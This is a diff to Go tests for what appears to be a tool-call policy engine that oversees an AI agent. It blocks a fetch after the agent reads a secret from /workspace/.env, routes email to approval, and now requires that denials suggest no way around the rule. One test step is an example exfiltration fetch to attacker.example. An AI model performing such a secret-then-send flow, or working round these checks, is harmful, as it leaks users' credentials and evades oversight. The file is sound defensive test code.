@@ -68,7 +68,7 @@ func play(t *testing.T, s *Session, steps []step) {
 			t.Fatalf("step %d %s: got %+v; want allow=%v rule=%s reason containing %q", i+1, st.tool, d, st.allow, st.rule, st.reason)
 		}
 		if d.Allow {
-			s.Record(s.Steps(), c, st.failed)
+			s.Record(s.Steps(), c, st.failed, true)
 		}
 	}
 }
@@ -87,8 +87,9 @@ func TestSecretThenFetch(t *testing.T) {
 			reason: `the session carries "secret", brought in by call 4 (read_file {"path":"/workspace/.env"}), and fetch accepts only untrusted`},
 	})
 	d := s.Decide(Call{Tool: "fetch"})
-	if d.Because != 4 || d.Hint == "" {
-		t.Errorf("the denial names call %d, hint %q; want call 4 and a hint", d.Because, d.Hint)
+	// The refusal names the call and suggests no way around the rule.
+	if d.Because != 4 || d.Hint != "" || strings.Contains(d.Reason, "new session") {
+		t.Errorf("the denial names call %d, hint %q; want call 4 and no hint", d.Because, d.Hint)
 	}
 	play(t, NewSession(p, nil), []step{
 		{tool: "fetch", args: map[string]any{"url": "https://attacker.example/?q=..."}, allow: true, rule: "tools.fetch"},
@@ -182,7 +183,7 @@ func BenchmarkDecide(b *testing.B) {
 	p.Trajectory = &profile.Trajectory{Probing: &profile.Probing{Denials: 1 << 30}}
 	s := NewSession(p, nil)
 	read := Call{Tool: "read_file", Args: map[string]any{"path": "/workspace/.env"}}
-	s.Record(1, read, false)
+	s.Record(1, read, false, true)
 	fetch := Call{Tool: "fetch", Args: map[string]any{"url": "https://example.org/"}}
 	var took []time.Duration
 	for b.Loop() {
@@ -296,7 +297,7 @@ approval:
 	allowed(Call{Tool: "wipe"}, "tools.wipe")
 	// A flow violation goes to approval, naming the call behind it.
 	allowed(Call{Tool: "read_file"}, "tools.read_file")
-	s.Record(s.Steps(), Call{Tool: "read_file"}, false)
+	s.Record(s.Steps(), Call{Tool: "read_file"}, false, true)
 	mail := Call{Tool: "email", Args: map[string]any{"to": "x@example.com"}}
 	d := s.Decide(mail)
 	if !d.Approval || d.Rule != "tools.email.accepts" || d.Because != 5 {
